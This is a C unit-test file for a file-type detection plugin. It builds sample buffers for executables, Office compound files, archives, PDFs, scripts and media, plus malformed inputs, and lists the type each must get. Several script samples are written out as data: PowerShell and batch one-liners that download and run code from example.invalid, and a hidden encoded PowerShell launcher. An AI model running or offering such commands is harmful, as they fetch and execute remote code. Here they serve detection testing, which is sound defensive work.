/*
 * check_truetype.c - the truetype plugin's unit tests, against the mock host.
 *
 * PURPOSE: tables of inputs and the answers they must get: Debian's
 * clamav-testfiles, the checked-in fixtures (tests/fixtures, remade by
 * make-fixtures.sh), byte buffers built here for the types those lack,
 * hostile inputs (prefixes and seeded mutations of all of those, each in a
 * buffer of exactly its size so ASan sees any over-read), the condition,
 * and a cross-check against libmagic that reports disagreements.
 *
 * NEVER: skips silently when clamav-testfiles or file(1) is missing; fails
 * because libmagic disagrees (it is a cross-check, not the truth); needs
 * the network or any malware (everything here is harmless).
 */
#include <check.h>
#include <dirent.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "mock_host.h"

extern const vigil_plugin_def vigil_plugin;

#ifndef TESTFILES
#define TESTFILES "/usr/share/clamav-testfiles"
#endif
#define TESTFILES_HINT                                                         \
	"install Debian's clamav-testfiles (apt-get install clamav-testfiles)"
#define BUILD_CAP 0x10000

/* ---------------------------------------------------------------------
 * Helpers
 */

static mock_host *load(void)
{
	mock_host *m = mock_host_new();
	const char *error = NULL;
	int r =
	    mock_host_load(m, &vigil_plugin, "name = \"truetype\";", &error);
	ck_assert_msg(r == 0, "load: %s", error ? error : "?");
	return m;
}

struct answer {
	const char *type;
	const char *category;
	unsigned flags;
};

/* Types `size` bytes from a buffer of exactly that size. */
static struct answer type_of(mock_host *m, const void *data, size_t size)
{
	struct answer a = {"unknown", "other", 0};
	unsigned char *copy = malloc(size ? size : 1);
	ck_assert_ptr_nonnull(copy);
	if (size)
		memcpy(copy, data, size);
	ck_assert_int_eq(mock_host_type(m, size ? copy : NULL, size, &a.type,
					&a.category, &a.flags),
			 1);
	free(copy);
	return a;
}

static unsigned char *read_file(const char *path, size_t *size_r)
{
	FILE *f = fopen(path, "rb");
	if (f == NULL)
		return NULL;
	struct stat st;
	if (fstat(fileno(f), &st) != 0) {
		fclose(f);
		return NULL;
	}
	size_t size = (size_t)st.st_size;
	unsigned char *buf = malloc(size ? size : 1);
	if (buf == NULL || fread(buf, 1, size, f) != size) {
		free(buf);
		fclose(f);
		return NULL;
	}
	fclose(f);
	*size_r = size;
	return buf;
}

static const char *srcdir(void)
{
	const char *s = getenv("srcdir");
	return s && *s ? s : ".";
}

static void fixture_path(char *buf, size_t cap, const char *name)
{
	snprintf(buf, cap, "%s/tests/fixtures/%s", srcdir(), name);
}

static int same_answer(struct answer got, const char *type,
		       const char *category, unsigned flags)
{
	return strcmp(got.type, type) == 0 &&
	       strcmp(got.category, category) == 0 && got.flags == flags;
}

static void put16(unsigned char *p, unsigned v)
{
	p[0] = (unsigned char)v;
	p[1] = (unsigned char)(v >> 8);
}

static void put32(unsigned char *p, uint32_t v)
{
	put16(p, v & 0xffff);
	put16(p + 2, v >> 16);
}

#define LIT(s) s, sizeof(s) - 1

/* ---------------------------------------------------------------------
 * Buffers built here, for the types clamav-testfiles lacks
 */

static size_t pe_image(unsigned char *b, unsigned machine,
		       unsigned characteristics, unsigned magic)
{
	memcpy(b, "MZ", 2);
	put32(b + 0x3c, 0x80);
	memcpy(b + 0x80, "PE\0\0", 4);
	put16(b + 0x84, machine);
	put16(b + 0x86, 1);			     /* sections */
	put16(b + 0x94, magic == 0x20b ? 240 : 224); /* optional size */
	put16(b + 0x96, characteristics);
	put16(b + 0x98, magic);
	return 0x200;
}

static size_t b_exe(unsigned char *b)
{
	return pe_image(b, 0x14c, 0x0102, 0x10b);
}

static size_t b_dll(unsigned char *b)
{
	return pe_image(b, 0x14c, 0x2102, 0x10b);
}

static size_t b_exe64(unsigned char *b)
{
	return pe_image(b, 0x8664, 0x0022, 0x20b);
}

static size_t b_dll64(unsigned char *b)
{
	return pe_image(b, 0x8664, 0x2022, 0x20b);
}

/* Cut right after the COFF header: the machine says 64-bit. */
static size_t b_pe64_no_optional(unsigned char *b)
{
	pe_image(b, 0x8664, 0x0022, 0x20b);
	return 0x98;
}

static size_t b_mz_lfanew_past_end(unsigned char *b)
{
	memcpy(b, "MZ", 2);
	put32(b + 0x3c, 0x1000);
	return 0x80;
}

static size_t b_mz_lfanew_huge(unsigned char *b)
{
	pe_image(b, 0x14c, 0x0102, 0x10b);
	put32(b + 0x3c, 0xfffffff0);
	return 0x200;
}

static size_t b_mz_lfanew_last_bytes(unsigned char *b)
{
	memcpy(b, "MZ", 2);
	put32(b + 0x3c, 0x7e); /* "PE\0\0" would straddle the end */
	memcpy(b + 0x7e, "PE", 2);
	return 0x80;
}

/* A compound file: header, FAT (sector 0), directory (sectors 1-2), and
 * a 4096-byte stream for the first child (sectors 3-10). */
static size_t ole2_image(unsigned char *b, const char *const *names,
			 const unsigned char *clsid, const void *head,
			 size_t head_len)
{
	const uint32_t end = 0xfffffffe, nostream = 0xffffffff;
	memcpy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	put16(b + 0x18, 0x3e);
	put16(b + 0x1a, 3);
	put16(b + 0x1c, 0xfffe);
	put16(b + 0x1e, 9);
	put16(b + 0x20, 6);
	put32(b + 0x2c, 1);    /* FAT sectors */
	put32(b + 0x30, 1);    /* first directory sector */
	put32(b + 0x38, 4096); /* mini stream cutoff */
	put32(b + 0x3c, end);
	put32(b + 0x44, end);
	put32(b + 0x4c, 0); /* DIFAT[0]: the FAT is sector 0 */
	for (int i = 1; i < 109; i++)
		put32(b + 0x4c + 4 * i, nostream);

	unsigned char *fat = b + 512;
	for (int i = 0; i < 128; i++)
		put32(fat + 4 * i, nostream);
	put32(fat, 0xfffffffd);
	put32(fat + 4, 2);
	put32(fat + 8, end);
	for (int s = 3; s < 10; s++)
		put32(fat + 4 * s, (uint32_t)s + 1);
	put32(fat + 40, end);

	unsigned char *dir = b + 1024;
	size_t count = 0;
	while (names[count] != NULL)
		count++;
	for (size_t i = 0; i <= count; i++) {
		unsigned char *e = dir + 128 * i;
		const char *name = i == 0 ? "Root Entry" : names[i - 1];
		size_t len = strlen(name);
		for (size_t k = 0; k < len; k++)
			put16(e + 2 * k, (unsigned char)name[k]);
		put16(e + 0x40, (unsigned)(2 * (len + 1)));
		e[0x42] = i == 0 ? 5 : 2;
		put32(e + 0x44, nostream);
		put32(e + 0x48,
		      i > 0 && i < count ? (uint32_t)i + 1 : nostream);
		put32(e + 0x4c, i == 0 && count ? 1 : nostream);
		if (i == 0 && clsid)
			memcpy(e + 0x50, clsid, 16);
		put32(e + 0x74, i == 1 ? 3 : end);
		put32(e + 0x78, i == 1 ? 4096 : 0);
	}
	if (head)
		memcpy(b + 512 * 4, head, head_len);
	return 512 * 11;
}

static size_t b_doc(unsigned char *b)
{
	static const char *const names[] = {"WordDocument", "1Table",
					    "\005SummaryInformation", NULL};
	return ole2_image(b, names, NULL, "\xec\xa5\xc1\x00", 4);
}

static size_t b_doc_encrypted(unsigned char *b)
{
	/* FIB: wIdent 0xA5EC, fEncrypted (0x0100) in the flags at 0x0A */
	static const char *const names[] = {"WordDocument", "1Table", NULL};
	return ole2_image(b, names, NULL,
			  LIT("\xec\xa5\xc1\x00\xc1\x00\x00\x00\x00\x00"
			      "\x00\x01"));
}

static size_t b_xls(unsigned char *b)
{
	static const char *const names[] = {"Workbook", NULL};
	return ole2_image(b, names, NULL, LIT("\x09\x08\x10\x00"));
}

static size_t b_xls_book(unsigned char *b)
{
	static const char *const names[] = {"Book", NULL};
	return ole2_image(b, names, NULL, NULL, 0);
}

static size_t b_xls_encrypted(unsigned char *b)
{
	/* BOF (0x0809, 16 bytes) then FILEPASS (0x002F) */
	static const char *const names[] = {"Workbook", NULL};
	static const char head[] = "\x09\x08\x10\x00" /* BOF, 16 bytes */
				   "\x00\x06\x05\x00\x00\x00\x00\x00"
				   "\x00\x00\x00\x00\x00\x00\x00\x00"
				   "\x2f\x00\x06\x00"; /* FILEPASS */
	return ole2_image(b, names, NULL, head, sizeof head - 1);
}

static size_t b_ppt(unsigned char *b)
{
	static const char *const names[] = {"PowerPoint Document",
					    "Current User", NULL};
	return ole2_image(b, names, NULL, NULL, 0);
}

static size_t b_msg(unsigned char *b)
{
	/* an Outlook message with an attached Word document's streams
	 * further down would still be a message: only the root counts */
	static const char *const names[] = {"__properties_version1.0",
					    "__substg1.0_0037001F", NULL};
	return ole2_image(b, names, NULL, NULL, 0);
}

static size_t b_msi(unsigned char *b)
{
	static const unsigned char msi[16] = {
	    0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46};
	static const char *const names[] = {"\x05SummaryInformation", NULL};
	return ole2_image(b, names, msi, NULL, 0);
}

static size_t b_ole2_encrypted_ooxml(unsigned char *b)
{
	static const char *const names[] = {"EncryptedPackage",
					    "EncryptionInfo", NULL};
	return ole2_image(b, names, NULL, NULL, 0);
}

static size_t b_ole2_other(unsigned char *b)
{
	static const char *const names[] = {"Contents", NULL};
	return ole2_image(b, names, NULL, NULL, 0);
}

static size_t b_ole2_dir_far(unsigned char *b)
{
	size_t n = b_doc(b);
	put32(b + 0x30, 0x7ffffff0); /* directory far past the end */
	return n;
}

static size_t b_ole2_dir_loop(unsigned char *b)
{
	size_t n = b_doc(b);
	put32(b + 512 + 4, 1); /* directory chain: 1 -> 1 -> ... */
	return n;
}

static size_t b_ole2_tree_loop(unsigned char *b)
{
	size_t n = b_doc(b);
	put32(b + 1024 + 128 + 0x44, 1); /* entry 1's left sibling is itself */
	put32(b + 1024 + 128 + 0x48, 1);
	return n;
}

static size_t b_ole2_bad_shift(unsigned char *b)
{
	size_t n = b_doc(b);
	put16(b + 0x1e, 31);
	return n;
}

static size_t rar4_image(unsigned char *b, int file_password,
			 int header_password)
{
	size_t p = 0;
	memcpy(b, "Rar!\x1a\x07\x00", 7);
	p = 7;
	b[p + 2] = 0x73; /* main header */
	put16(b + p + 3, header_password ? 0x0080 : 0);
	put16(b + p + 5, 13);
	p += 13;
	if (header_password)
		return p + 32; /* the rest is ciphertext */
	b[p + 2] = 0x74;       /* file header */
	put16(b + p + 3, 0x8000 | (file_password ? 0x0004 : 0));
	put16(b + p + 5, 32 + 9);
	put32(b + p + 7, 5);  /* packed size */
	put32(b + p + 11, 5); /* unpacked size */
	b[p + 15] = 3;
	b[p + 24] = 29;
	b[p + 25] = 0x30; /* stored */
	put16(b + p + 26, 9);
	memcpy(b + p + 32, "hello.txt", 9);
	p += 32 + 9;
	memcpy(b + p, "hello", 5);
	p += 5;
	b[p + 2] = 0x7b; /* end of archive */
	put16(b + p + 3, 0x4000);
	put16(b + p + 5, 7);
	return p + 7;
}

static size_t b_rar4(unsigned char *b)
{
	return rar4_image(b, 0, 0);
}

static size_t b_rar4_file_password(unsigned char *b)
{
	return rar4_image(b, 1, 0);
}

static size_t b_rar4_header_password(unsigned char *b)
{
	return rar4_image(b, 0, 1);
}

static size_t b_rar4_huge_block(unsigned char *b)
{
	size_t n = rar4_image(b, 0, 0);
	put32(b + 20 + 7, 0xfffffff0); /* file's packed size */
	return n;
}

static size_t rar5_image(unsigned char *b, int file_encrypted)
{
	static const unsigned char sig[] = "Rar!\x1a\x07\x01\x00";
	static const unsigned char main_hdr[] = {0, 0, 0, 0, 3, 1, 0, 0};
	static const unsigned char end_hdr[] = {0, 0, 0, 0, 3, 5, 0, 0};
	size_t p = 0;
	memcpy(b, sig, 8);
	p = 8;
	memcpy(b + p, main_hdr, sizeof main_hdr);
	p += sizeof main_hdr;
	/* file header: type 2, flags extra|data, then the file fields */
	const unsigned char fields[] = {2, file_encrypted ? 3 : 2};
	size_t start = p;
	p += 4 + 1; /* CRC, size (filled below) */
	memcpy(b + p, fields, 2);
	p += 2;
	if (file_encrypted)
		b[p++] = 4; /* extra area size */
	b[p++] = 5;	    /* data size */
	b[p++] = 0;	    /* file flags */
	b[p++] = 5;	    /* unpacked size */
	b[p++] = 0x20;	    /* attributes */
	b[p++] = 0;	    /* compression */
	b[p++] = 1;	    /* host OS: Unix */
	b[p++] = 9;	    /* name length */
	memcpy(b + p, "hello.txt", 9);
	p += 9;
	if (file_encrypted) {
		static const unsigned char rec[] = {3, 1, 0,
						    0}; /* encryption */
		memcpy(b + p, rec, 4);
		p += 4;
	}
	b[start + 4] = (unsigned char)(p - (start + 5));
	memcpy(b + p, "hello", 5);
	p += 5;
	memcpy(b + p, end_hdr, sizeof end_hdr);
	return p + sizeof end_hdr;
}

static size_t b_rar5(unsigned char *b)
{
	return rar5_image(b, 0);
}

static size_t b_rar5_file_encrypted(unsigned char *b)
{
	return rar5_image(b, 1);
}

static size_t b_rar5_header_encrypted(unsigned char *b)
{
	static const unsigned char d[] = "Rar!\x1a\x07\x01\x00"
					 "\0\0\0\0\x03\x04\x00\x00";
	memcpy(b, d, sizeof d - 1);
	return 48;
}

static size_t b_rar5_huge_vints(unsigned char *b)
{
	memcpy(b, "Rar!\x1a\x07\x01\x00", 8);
	memset(b + 8, 0xff, 40); /* a vint that never ends */
	return 48;
}

static size_t b_7z_plain(unsigned char *b)
{
	memcpy(b, "7z\xbc\xaf\x27\x1c\x00\x04", 8);
	put32(b + 12, 4); /* next header offset */
	put32(b + 20, 8); /* next header size */
	memcpy(b + 36, "\x01\x04\x06\x00\x01\x09\x05\x00", 8);
	return 44;
}

static size_t b_7z_aes_header(unsigned char *b)
{
	memcpy(b, "7z\xbc\xaf\x27\x1c\x00\x04", 8);
	put32(b + 20, 18);
	memcpy(b + 32,
	       "\x17\x06\x00\x01\x09\x20\x00\x07\x0b\x01\x00\x01"
	       "\x24\x06\xf1\x07",
	       16);
	memcpy(b + 48, "\x01\x12", 2);
	return 50;
}

static size_t b_7z_huge_offset(unsigned char *b)
{
	memcpy(b, "7z\xbc\xaf\x27\x1c\x00\x04", 8);
	memset(b + 12, 0xff, 16);
	return 40;
}

static size_t b_iso(unsigned char *b)
{
	memcpy(b + 0x8000, "\001CD001\x01", 7);
	return 0x8800;
}

static size_t b_iso_8801(unsigned char *b)
{
	memcpy(b + 0x8800, "\001CD001\x01", 7);
	return 0x9000;
}

static size_t tar_header(unsigned char *b, int ustar)
{
	memcpy(b, "hello.txt", 9);
	memcpy(b + 100, "0000644", 7);
	memcpy(b + 108, "0001750", 7);
	memcpy(b + 116, "0001750", 7);
	memcpy(b + 124, "00000000005", 11);
	memcpy(b + 136, "14545324000", 11);
	b[156] = '0';
	if (ustar)
		memcpy(b + 257, "ustar\00000", 8);
	memset(b + 148, ' ', 8);
	unsigned sum = 0;
	for (int i = 0; i < 512; i++)
		sum += b[i];
	snprintf((char *)b + 148, 8, "%06o", sum);
	memcpy(b + 512, "hello", 5);
	return 1024;
}

static size_t b_tar_ustar(unsigned char *b)
{
	return tar_header(b, 1);
}

static size_t b_tar_v7(unsigned char *b)
{
	return tar_header(b, 0);
}

static size_t b_bmp(unsigned char *b)
{
	memcpy(b, "BM", 2);
	put32(b + 2, 58);
	put32(b + 10, 54);
	put32(b + 14, 40);
	put32(b + 18, 1);
	put32(b + 22, 1);
	put16(b + 26, 1);
	put16(b + 28, 24);
	return 58;
}

static size_t b_mp3_frames(unsigned char *b)
{
	/* MPEG-1 Layer III, 128 kbit/s, 44.1 kHz: 417-byte frames */
	for (size_t off = 0; off < 3 * 417; off += 417)
		memcpy(b + off, "\xff\xfb\x90\x00", 4);
	return 3 * 417;
}

static size_t b_mp3_bad_second_frame(unsigned char *b)
{
	memcpy(b, "\xff\xfb\x90\x00", 4);
	return 3 * 417; /* zeros where the next frame should be */
}

static size_t b_ps1_utf16(unsigned char *b)
{
	static const char text[] = "$p = \"$env:TEMP\\x.txt\"\r\n"
				   "Write-Host $p\r\n";
	b[0] = 0xff;
	b[1] = 0xfe;
	for (size_t i = 0; i < sizeof text - 1; i++)
		put16(b + 2 + 2 * i, (unsigned char)text[i]);
	return 2 + 2 * (sizeof text - 1);
}

static size_t b_long_text(unsigned char *b)
{
	/* prose longer than the sample, with a script word after it */
	static const char line[] = "The quick brown fox jumps over the lazy "
				   "dog and keeps running.\n";
	size_t p = 0;
	while (p + sizeof line < 12000) {
		memcpy(b + p, line, sizeof line - 1);
		p += sizeof line - 1;
	}
	memcpy(b + p, "on error resume next\n", 21);
	return p + 21;
}

static size_t b_text_nul(unsigned char *b)
{
	memcpy(b, "Hello there, this is text", 25);
	b[25] = 0;
	memcpy(b + 26, "with a NUL in it", 16);
	return 42;
}

static size_t b_random(unsigned char *b)
{
	uint32_t x = 2463534242u;
	for (size_t i = 0; i < 4096; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		b[i] = (unsigned char)x;
	}
	b[0] = 0x01; /* no magic */
	return 4096;
}

static size_t b_pdf_encrypted(unsigned char *b)
{
	static const char pdf[] =
	    "%PDF-1.6\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
	    "trailer\n<< /Root 1 0 R /Encrypt 5 0 R /ID [<00><00>] >>\n"
	    "%%EOF\n";
	memcpy(b, pdf, sizeof pdf - 1);
	return sizeof pdf - 1;
}

static size_t b_pdf_junk_prefix(unsigned char *b)
{
	memset(b, 'x', 600);
	b[599] = '\n';
	memcpy(b + 600, "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", 15);
	memcpy(b + 615, "<< /EncryptMetadata false >>\n", 29);
	return 644;
}

static size_t b_pdf_too_late(unsigned char *b)
{
	memset(b, 'x', 1100);
	memcpy(b + 1030, "%PDF-1.4\n", 9);
	return 1100;
}

/* One buffer: literal bytes, or a builder into a zeroed BUILD_CAP. */
struct buf_case {
	const char *what;
	const char *bytes;
	size_t len;
	size_t (*build)(unsigned char *b);
	const char *type, *category;
	unsigned flags;
};

#define ENC VIGIL_PART_ENCRYPTED

static const struct buf_case buf_cases[] = {
    /* executable */
    {"pe32 exe", NULL, 0, b_exe, "exe", "executable", 0},
    {"pe32 dll", NULL, 0, b_dll, "dll", "executable", 0},
    {"pe32+ exe", NULL, 0, b_exe64, "exe64", "executable", 0},
    {"pe32+ dll", NULL, 0, b_dll64, "dll64", "executable", 0},
    {"pe32+ cut before the optional header", NULL, 0, b_pe64_no_optional,
     "exe64", "executable", 0},
    {"elf", LIT("\177ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0"), NULL,
     "elf", "executable", 0},
    {"mach-o 64 le", LIT("\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0"), NULL,
     "macho", "executable", 0},
    {"mach-o 32 be", LIT("\xfe\xed\xfa\xce\0\0\0\x12\0\0\0\0"), NULL, "macho",
     "executable", 0},
    {"mach-o fat, 2 archs", LIT("\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07"), NULL,
     "macho", "executable", 0},
    {"java class, major 52", LIT("\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a"), NULL,
     "class", "executable", 0},
    {"java class, major 45", LIT("\xca\xfe\xba\xbe\0\x03\0\x2d\0\x1d"), NULL,
     "class", "executable", 0},
    {"cafebabe, neither", LIT("\xca\xfe\xba\xbe\0\0\x10\0"), NULL, "unknown",
     "other", 0},
    {"lnk",
     LIT("\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
	 "\x9b\0\x08\0\x20\0\0\0"),
     NULL, "lnk", "executable", 0},
    {"msi", NULL, 0, b_msi, "msi", "executable", 0},
    /* document */
    {"doc", NULL, 0, b_doc, "doc", "document", 0},
    {"doc, encrypted (FIB)", NULL, 0, b_doc_encrypted, "doc", "document", ENC},
    {"xls", NULL, 0, b_xls, "xls", "document", 0},
    {"xls, Book stream", NULL, 0, b_xls_book, "xls", "document", 0},
    {"xls, encrypted (FILEPASS)", NULL, 0, b_xls_encrypted, "xls", "document",
     ENC},
    {"ppt", NULL, 0, b_ppt, "ppt", "document", 0},
    {"msg", NULL, 0, b_msg, "msg", "document", 0},
    {"ole2, encrypted ooxml", NULL, 0, b_ole2_encrypted_ooxml, "ole2",
     "document", ENC},
    {"ole2, other", NULL, 0, b_ole2_other, "ole2", "document", 0},
    {"onenote",
     LIT("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78"
	 "\xd0\x29\x96\xd3\0\0\0\0"),
     NULL, "one", "document", 0},
    {"pdf", LIT("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), NULL,
     "pdf", "document", 0},
    {"pdf, /Encrypt", NULL, 0, b_pdf_encrypted, "pdf", "document", ENC},
    {"pdf after 600 bytes, /EncryptMetadata only", NULL, 0, b_pdf_junk_prefix,
     "pdf", "document", 0},
    {"%PDF- after 1024 bytes", NULL, 0, b_pdf_too_late, "text", "other", 0},
    {"rtf", LIT("{\\rtf1\\ansi\\deff0 Hello}"), NULL, "rtf", "document", 0},
    {"rtf, bare {\\rt", LIT("{\\rtxa\\objdata 0105}"), NULL, "rtf", "document",
     0},
    {"html, doctype",
     LIT("<!DOCTYPE html>\n<html><body><p>Hi</p></body>"
	 "</html>\n"),
     NULL, "html", "document", 0},
    {"html, indented upper case", LIT("\n  <HTML>\n<BODY>hi</BODY></HTML>"),
     NULL, "html", "document", 0},
    {"html with ActiveX script",
     LIT("<html><script>var x = new "
	 "ActiveXObject('WScript.Shell');"
	 "</script></html>"),
     NULL, "html", "document", 0},
    {"html after a comment",
     LIT("<!-- saved from url -->\n<html>\n"
	 "<head><title>x</title></head></html>"),
     NULL, "html", "document", 0},
    /* script */
    {"js, ActiveX",
     LIT("var sh = new ActiveXObject(\"WScript.Shell\");\n"
	 "sh.Run(\"notepad.exe\");\n"),
     NULL, "js", "script", 0},
    {"js, WScript.CreateObject",
     LIT("var sh = WScript.CreateObject("
	 "\"WScript.Shell\");\n"
	 "sh.Run(\"notepad.exe\");\n"),
     NULL, "js", "script", 0},
    {"js, browser",
     LIT("function decode(s) {\n  return String.fromCharCode"
	 "(s);\n}\nconsole.log(decode(65));\n"),
     NULL, "js", "script", 0},
    {"vbs",
     LIT("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
	 "sh.Run \"notepad.exe\"\r\n"),
     NULL, "vbs", "script", 0},
    {"vbs, WScript.CreateObject",
     LIT("Set sh = WScript.CreateObject("
	 "\"WScript.Shell\")\nsh.Run "
	 "\"notepad.exe\"\n"),
     NULL, "vbs", "script", 0},
    {"vbs, on error", LIT("On Error Resume Next\nMsgBox \"hi\"\n"), NULL, "vbs",
     "script", 0},
    {"ps1",
     LIT("$u = \"https://example.invalid/a\"\nInvoke-WebRequest -Uri "
	 "$u -OutFile \"$env:TEMP\\a.txt\"\n"),
     NULL, "ps1", "script", 0},
    {"ps1, iex one-liner",
     LIT("IEX (New-Object Net.WebClient).Download"
	 "String('https://example.invalid/')\n"),
     NULL, "ps1", "script", 0},
    {"ps1, UTF-16LE", NULL, 0, b_ps1_utf16, "ps1", "script", 0},
    {"js, minified and obfuscated",
     LIT("var _0x4f2a=['\\x57\\x53'];(function(_0x1,_0x2){var _0x3=function("
	 "_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);"
	 "}(_0x4f2a,0x1b3));"),
     NULL, "js", "script", 0},
    {"vbs, obfuscated", LIT("Execute(Chr(77)&Chr(115)&Chr(103)&Chr(66))\r\n"),
     NULL, "vbs", "script", 0},
    {"ps1, hidden encoded launcher",
     LIT("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n"),
     NULL, "ps1", "script", 0},
    {"ps1, xor loop",
     LIT("$k = 0x42\n$b = [byte[]]($d | % { $_ -bxor $k })\n"
	 "[char[]]$b -join ''\n"),
     NULL, "ps1", "script", 0},
    {"ps1, admin pipeline",
     LIT("Get-ChildItem C:\\Logs | Where-Object { $_.Length -gt 1MB } |\n"
	 "  ForEach-Object { Write-Host $_.Name }\n"),
     NULL, "ps1", "script", 0},
    {"bat", LIT("@echo off\r\nset x=1\r\necho %x%\r\n"), NULL, "bat", "script",
     0},
    {"bat running powershell",
     LIT("@echo off\r\npowershell -Execution"
	 "Policy Bypass -Command \"IEX (New-"
	 "Object Net.WebClient).DownloadString("
	 "'https://example.invalid/')\"\r\n"),
     NULL, "bat", "script", 0},
    {"bat without echo off",
     LIT("setlocal\r\ncd /d %~dp0\r\nstart "
	 "notepad.exe\r\n"),
     NULL, "bat", "script", 0},
    {"hta",
     LIT("<html><head><HTA:APPLICATION ID=\"x\"></head><body>"
	 "<script language=\"VBScript\">MsgBox \"hi\"</script>"
	 "</body></html>"),
     NULL, "hta", "script", 0},
    /* compressed */
    {"rar4", NULL, 0, b_rar4, "rar", "compressed", 0},
    {"rar4, file password", NULL, 0, b_rar4_file_password, "rar", "compressed",
     ENC},
    {"rar4, header password", NULL, 0, b_rar4_header_password, "rar",
     "compressed", ENC},
    {"rar5", NULL, 0, b_rar5, "rar5", "compressed", 0},
    {"rar5, encrypted file", NULL, 0, b_rar5_file_encrypted, "rar5",
     "compressed", ENC},
    {"rar5, encrypted headers", NULL, 0, b_rar5_header_encrypted, "rar5",
     "compressed", ENC},
    {"7z", NULL, 0, b_7z_plain, "7z", "compressed", 0},
    {"7z, AES header coder", NULL, 0, b_7z_aes_header, "7z", "compressed", ENC},
    {"xz", LIT("\3757zXZ\0\0\x04\xe6\xd6\xb4\x46"), NULL, "xz", "compressed",
     0},
    {"gzip", LIT("\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0"), NULL, "gzip",
     "compressed", 0},
    {"bzip2", LIT("BZh91AY&SY\x01\x02"), NULL, "bzip2", "compressed", 0},
    {"iso at 0x8001", NULL, 0, b_iso, "iso", "compressed", 0},
    {"iso at 0x8801", NULL, 0, b_iso_8801, "iso", "compressed", 0},
    {"lzh -lh5-", LIT("\x24\x8f-lh5-\x10\0\0\0\x20\0\0\0"), NULL, "lzh",
     "compressed", 0},
    {"lzh -lz4-", LIT("\x24\x8f-lz4-\x10\0\0\0\x20\0\0\0"), NULL, "lzh",
     "compressed", 0},
    {"tar, ustar", NULL, 0, b_tar_ustar, "tar", "compressed", 0},
    {"tar, v7 checksum", NULL, 0, b_tar_v7, "tar", "compressed", 0},
    {"cpio newc",
     LIT("07070100000001000081a4000003e8000003e8000000010000"
	 "0000"),
     NULL, "cpio", "compressed", 0},
    {"cab", LIT("MSCF\0\0\0\0\x4e\0\0\0\0\0\0\0\x2c\0\0\0"), NULL, "cab",
     "compressed", 0},
    /* image */
    {"jpeg", LIT("\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01"), NULL, "jpeg", "image",
     0},
    {"png", LIT("\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR"), NULL, "png", "image", 0},
    {"gif", LIT("GIF89a\x01\0\x01\0\x80\0\0"), NULL, "gif", "image", 0},
    {"bmp", NULL, 0, b_bmp, "bmp", "image", 0},
    {"tiff le", LIT("II*\0\x08\0\0\0\0\0"), NULL, "tiff", "image", 0},
    {"tiff be", LIT("MM\0*\0\0\0\x08\0\0"), NULL, "tiff", "image", 0},
    /* media */
    {"mp3, ID3", LIT("ID3\x03\0\0\0\0\0\x0a\xff\xfb\x90\0"), NULL, "mp3",
     "media", 0},
    {"mp3, frame sync", NULL, 0, b_mp3_frames, "mp3", "media", 0},
    {"mp3 sync, no second frame", NULL, 0, b_mp3_bad_second_frame, "unknown",
     "other", 0},
    {"mp4",
     LIT("\0\0\0\x18"
	 "ftypisom\0\0\x02\0isommp41"),
     NULL, "mp4", "media", 0},
    {"wav", LIT("RIFF\x24\0\0\0WAVEfmt \x10\0\0\0"), NULL, "wav", "media", 0},
    {"avi",
     LIT("RIFF\x24\0\0\0"
	 "AVI LIST\x10\0\0\0"),
     NULL, "avi", "media", 0},
    {"ogg", LIT("OggS\0\x02\0\0\0\0\0\0\0\0"), NULL, "ogg", "media", 0},
    /* other */
    {"prose",
     LIT("Hello Bob,\n\nSet the meeting for Monday, then we can "
	 "dim the lights.\nDim lights help.\nThe function (of it) "
	 "is clear; really.\nRem: we start at 9.\nVar\n\nRegards"
	 "\n"),
     NULL, "text", "other", 0},
    {"prose, utf-8", LIT("Grüße aus Köln — ça va très bien, merci.\n"), NULL,
     "text", "other", 0},
    {"prose, latin-1",
     LIT("Gr\xfc\xdf"
	 "e aus K\xf6ln, \xe7"
	 "a va tr\xe8s "
	 "bien, merci beaucoup.\n"),
     NULL, "text", "other", 0},
    {"text with a script word past the sample", NULL, 0, b_long_text, "text",
     "other", 0},
    {"prose about commands",
     LIT("To list files, open a prompt and type cmd /c dir, or in PowerShell "
	 "use Get-ChildItem and Write-Host.\n"),
     NULL, "text", "other", 0},
    {"java source",
     LIT("public class A {\n  void f(Deque<Integer> q) {\n"
	 "    q.push(1);\n    System.out.println(q);\n  }\n}\n"),
     NULL, "text", "other", 0},
    {"c source",
     LIT("#include <stdio.h>\nconst int x = 3;\nint main(void)\n"
	 "{\n\tprintf(\"%d\\n\", x);\n\treturn 0;\n}\n"),
     NULL, "text", "other", 0},
    {"css", LIT("body {\n  color: red;\n  margin: 0;\n}\n"), NULL, "text",
     "other", 0},
    {"text with a NUL", NULL, 0, b_text_nul, "unknown", "other", 0},
    {"random bytes", NULL, 0, b_random, "unknown", "other", 0},
    /* hostile */
    {"empty", "", 0, NULL, "unknown", "other", 0},
    {"1 byte M", LIT("M"), NULL, "text", "other", 0},
    {"1 byte 0xd0", LIT("\xd0"), NULL, "unknown", "other", 0},
    {"1 byte NUL", LIT("\0"), NULL, "unknown", "other", 0},
    {"MZ only", LIT("MZ"), NULL, "text", "other", 0},
    {"MZ, e_lfanew past the end", NULL, 0, b_mz_lfanew_past_end, "exe",
     "executable", 0},
    {"MZ, e_lfanew 0xFFFFFFF0", NULL, 0, b_mz_lfanew_huge, "exe", "executable",
     0},
